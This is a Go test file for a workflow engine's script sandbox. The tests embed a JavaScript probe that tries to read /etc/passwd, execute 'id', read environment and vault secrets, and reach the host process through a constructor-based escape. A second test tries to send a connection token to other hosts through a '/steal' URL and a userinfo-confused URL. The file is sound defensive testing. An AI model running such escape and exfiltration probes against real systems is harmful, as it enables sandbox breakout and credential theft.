package workflows

import (
	"encoding/json"
	"strings"
	"testing"
)

// TestS53_scripts_reach_nothing_but_their_run looks from within a workflow's
// script for the doors that an escape would take: files, programs, the network,
// the environment, the keys of the vault, tokens of connections.
func TestS53_scripts_reach_nothing_but_their_run(t *testing.T) {
	w := newWorld(t, nil)
	if _, err := w.client.Token(t.Context(), "example-api"); err != nil { // there is a token to find
		t.Fatal(err)
	}
	w.declare(t, "Doors", `
workflow: Doors
activities:
  script:
    type: RunJavaScript
    with:
      Script: |
        const found = [];
        const tries = {
          require: () => require("fs"), std: () => std.open("/etc/passwd", "r"), os: () => os.exec(["id"]), fetch: () => fetch("http://127.0.0.1"),
          process: () => process.env, env: () => std.getenv("HOME"), worker: () => new Worker("x"), xhr: () => new XMLHttpRequest(),
          host: () => getVariable.constructor("return this")().process.mainModule, connections: () => connections, secrets: () => secrets,
          vault: () => vault.key, wasm: () => WebAssembly.compile, load: () => std.loadFile("/etc/passwd"), go: () => Go, timers: () => setTimeout(() => 1, 0),
          sab: () => new SharedArrayBuffer(8), imported: () => loadScript("x"),
        };
        for (const [name, go] of Object.entries(tries)) {
          try { if (go() !== undefined) found.push(name) } catch (e) { }
        }
        const seen = Object.getOwnPropertyNames(globalThis).join(" ");
        return { found, seen, all: JSON.stringify(activities) }
    next: done
  done: { type: Finish, with: { ActivityOutput: !js activities.script.Output(), OutcomeNames: [success] } }
`)
	var got struct {
		Found []string
		Seen  string
		All   string
	}
	out := w.good(t, "Doors", nil)
	if err := json.Unmarshal([]byte(out), &got); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	if len(got.Found) > 0 {
		t.Errorf("open doors: %v", got.Found)
	}
	for _, tok := range append(w.em.IssuedTokens(), w.key) {
		if strings.Contains(out, tok) {
			t.Error("a script sees a token that its run was not given")
		}
	}
	for _, name := range []string{"process", "require", "std", "os", "fetch"} {
		if strings.Contains(" "+got.Seen+" ", " "+name+" ") {
			t.Errorf("there is a global %s", name)
		}
	}
}

// TestS54_a_connections_token_goes_to_its_hosts_alone lets a workflow try to
// carry one elsewhere, with the request that names the connection.
func TestS54_a_connections_token_goes_to_its_hosts_alone(t *testing.T) {
	w := newWorld(t, nil)
	u := newUpstream(t)
	for _, url := range []string{u.URL + "/steal", strings.Replace(u.URL, "127.0.0.1", "localhost", 1), w.base + "@" + strings.TrimPrefix(u.URL, "http://")} {
		w.declare(t, "Elsewhere", `
workflow: Elsewhere
activities:
  call: { type: SendHttpRequest, with: { Url: "`+url+`", Connection: example-api, RequestHeaders: !json '{"X-Other":"1"}' } }
`)
		if r := w.run(t, "Elsewhere", nil); r.Status != "faulted" {
			t.Errorf("%s: %+v", url, r)
		}
	}
	if n := len(u.requests()); n != 0 {
		t.Errorf("%d requests arrived elsewhere: %+v", n, u.requests())
	}
}
